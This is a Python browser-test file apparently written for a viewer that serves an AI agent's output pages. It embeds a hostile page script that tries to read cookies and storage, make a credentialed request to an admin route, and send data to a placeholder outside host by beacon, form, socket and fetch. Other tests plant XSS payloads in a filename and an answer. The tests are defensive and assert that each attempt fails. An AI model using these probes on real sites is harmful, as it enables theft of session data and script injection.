"""In a real browser: the agent's page works with its own files, and reaches nothing else."""

import asyncio
import base64
from dataclasses import dataclass

import pytest
from aiohttp import web
from aiohttp.test_utils import TestServer, unused_port

from bot.links import Links
from handlers import viewer

pytest_plugins = ["tests.desk_fixtures"]
pytestmark = pytest.mark.browser

PIXEL = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
)
PAGE = """<!doctype html><meta charset=utf-8><link rel=stylesheet href=./style.css>
<img id=img src=img/x.png><p id=out></p><script type=module src=./js/app.mjs></script>"""
APP = """import { greet } from './part.mjs';
const data = await (await fetch('./data.json')).json();
document.getElementById('out').textContent = greet(data.name);
document.body.dataset.ready = '1';"""
HOSTILE = """<!doctype html><meta charset=utf-8><body><script>
const tried = {};
async function attempt(name, work) {
  try { tried[name] = 'done ' + await work(); } catch (e) { tried[name] = 'refused'; }
}
const loaded = (tag, key, url) => new Promise((good, bad) => {
  const element = document.createElement(tag);
  element.onload = () => good('loaded');
  element.onerror = () => bad('failed');
  if (tag === 'link') element.rel = 'stylesheet';
  element[key] = url;
  document.body.append(element);
});
(async () => {
  await attempt('cookie', () => document.cookie);
  await attempt('setCookie', () => { document.cookie = 'a=b'; return document.cookie; });
  await attempt('localStorage', () => localStorage.getItem('a'));
  await attempt('sessionStorage', () => sessionStorage.getItem('a'));
  await attempt('indexedDB', () => new Promise((good, bad) => {
    const open = indexedDB.open('a'); open.onsuccess = good; open.onerror = bad;
  }));
  await attempt('serviceWorker', () => navigator.serviceWorker.register('./sw.js'));
  await attempt('opener', () => window.opener.document.title);
  await attempt('popup', () => window.open('/').document.title);
  await attempt('viewer', () => fetch('../'));
  await attempt('live', () => fetch('../live'));
  await attempt('otherTurn', () => fetch('OTHER_TURN'));
  await attempt('admin', () => fetch('/admin/health', { credentials: 'include' }));
  await attempt('adminBlind', () => fetch('/admin/health', { mode: 'no-cors' }));
  await attempt('adminScript', () => import('/admin/health'));
  await attempt('adminImage', () => loaded('img', 'src', '/admin/health'));
  await attempt('host', () => fetch('OTHER_HOST/fetch', { mode: 'no-cors' }));
  await attempt('hostImage', () => loaded('img', 'src', 'OTHER_HOST/img'));
  await attempt('hostScript', () => loaded('script', 'src', 'OTHER_HOST/script'));
  await attempt('hostStyle', () => loaded('link', 'href', 'OTHER_HOST/style'));
  await attempt('hostSocket', () => new Promise((good, bad) => {
    const socket = new WebSocket('OTHER_HOST/socket'.replace('http', 'ws'));
    socket.onopen = good; socket.onerror = bad;
  }));
  const frame = document.createElement('iframe');
  frame.src = 'OTHER_HOST/frame';
  document.body.append(frame);
  navigator.sendBeacon('OTHER_HOST/beacon', 'x');
  const form = document.createElement('form');
  form.action = 'OTHER_HOST/form';
  document.body.append(form);
  form.submit();
  await attempt('own', () => fetch('./data.json'));
  window.tried = tried;
  document.body.dataset.ready = '1';
})();
</script>"""


class Host:
    """Counts who comes: no page of the agent ever should."""

    def __init__(self) -> None:
        self.visits: list[str] = []
        self.url = ""

    async def visit(self, request: web.Request) -> web.Response:
        self.visits.append(request.path)
        headers = {"Access-Control-Allow-Origin": "*", "Set-Cookie": "session=1"}
        return web.Response(text="secret", headers=headers)


@pytest.fixture
async def host():
    host = Host()
    app = web.Application()
    app.router.add_get("/{path:.*}", host.visit)
    async with TestServer(app) as server:
        host.url = str(server.make_url("/")).rstrip("/")
        yield host


@dataclass
class Site:
    """The viewer beside an admin page; ``words`` is what running turns say."""

    root: str
    links: Links
    words: dict[int, str]
    admin: Host


@pytest.fixture
async def site(desk):
    words: dict[int, str] = {}
    admin = Host()
    app = web.Application()
    app.router.add_get("/admin/{path:.*}", admin.visit)
    port = unused_port()
    root = f"http://127.0.0.1:{port}"
    links = Links(bytes(32), root, 3600, desk.clock)
    app.add_routes(viewer.routes(desk.files, links, desk.store, words.get, lambda _: False))
    async with TestServer(app, port=port):
        yield Site(root, links, words, admin)


async def test_a_page_takes_effect_with_its_own_style_module_picture_and_data(desk, site, chromium):
    desk.write("site/style.css", "#out { color: rgb(1, 2, 3); }")
    desk.write("site/img/x.png", PIXEL)
    n = await desk.begin()
    desk.write("site/index.html", PAGE)
    desk.write("site/js/app.mjs", APP)
    desk.write("site/js/part.mjs", "export const greet = name => `你好，${name}`;")
    desk.write("site/data.json", '{"name": "企业微信"}')
    await desk.end(n)
    page = await chromium.new_page()
    await page.goto(site.links.raw(n, "site/index.html"))
    await page.wait_for_selector("body[data-ready]")
    assert await page.text_content("#out") == "你好，企业微信"
    assert await page.evaluate("getComputedStyle(out).color") == "rgb(1, 2, 3)"
    assert await page.evaluate("img.naturalWidth") == 1
    await page.goto(site.links.raw(n, "site"))
    await page.wait_for_selector("body[data-ready]")
    assert page.url == site.links.raw(n, "site/")


async def test_x9_a_hostile_page_reaches_nothing_but_its_own_files(desk, site, host, chromium):
    first = await desk.begin()
    desk.write("data.json", "{}")
    await desk.end(first)
    n = await desk.begin()
    other = site.links.raw(first, "data.json")
    page_text = HOSTILE.replace("OTHER_HOST", host.url).replace("OTHER_TURN", other)
    desk.write("evil.html", page_text)
    desk.write("evil.svg", '<svg xmlns="http://www.w3.org/2000/svg"><script>x</script></svg>')
    await desk.end(n)
    context = await chromium.new_context()
    await context.add_cookies([{"name": "admin", "value": "secret", "url": site.root}])
    page = await context.new_page()
    await page.goto(site.links.raw(n, "evil.html"))
    await page.wait_for_selector("body[data-ready]")
    tried = await page.evaluate("window.tried")
    assert tried.pop("own").startswith("done")
    assert set(tried.values()) == {"refused"}, tried
    assert len(tried) == 20
    assert host.visits == []
    assert site.admin.visits == []


async def test_x9_the_viewers_own_page_runs_no_script_of_an_answer(desk, site, chromium):
    n = await desk.begin()
    answer = "<img src=x onerror=document.title='hit'> <script>document.title='hit'</script> **ok**"
    desk.write(
        "<img src=x onerror=document.title='hit'>.txt",
        "</pre><script>document.title='hit'</script>",
    )
    await desk.end(n, answer)
    page = await chromium.new_page()
    errors: list[str] = []
    page.on("console", lambda message: errors.append(message.text))
    await page.goto(site.links.page(n))
    assert await page.text_content("article strong") == "ok"
    assert await page.title() == f"任务 #{n}"
    assert errors == []


async def test_the_page_follows_a_running_turn_to_its_end(desk, site, chromium):
    n = await desk.begin()
    site.words[n] = "🖥 第一步"
    page = await chromium.new_page()
    async with asyncio.timeout(60):
        await page.goto(site.links.page(n))
        assert "第一步" in await page.text_content("article")
        await page.click("summary")
        site.words[n] = "🖥 第二步"
        await page.wait_for_selector("article:has-text('第二步')")
        assert await page.evaluate("document.querySelector('details.question').open")
        await desk.end(n, "写完了")
        await page.wait_for_selector(".state.done")
    assert await page.text_content("article") == "写完了\n"
    assert await page.query_selector("script") is None
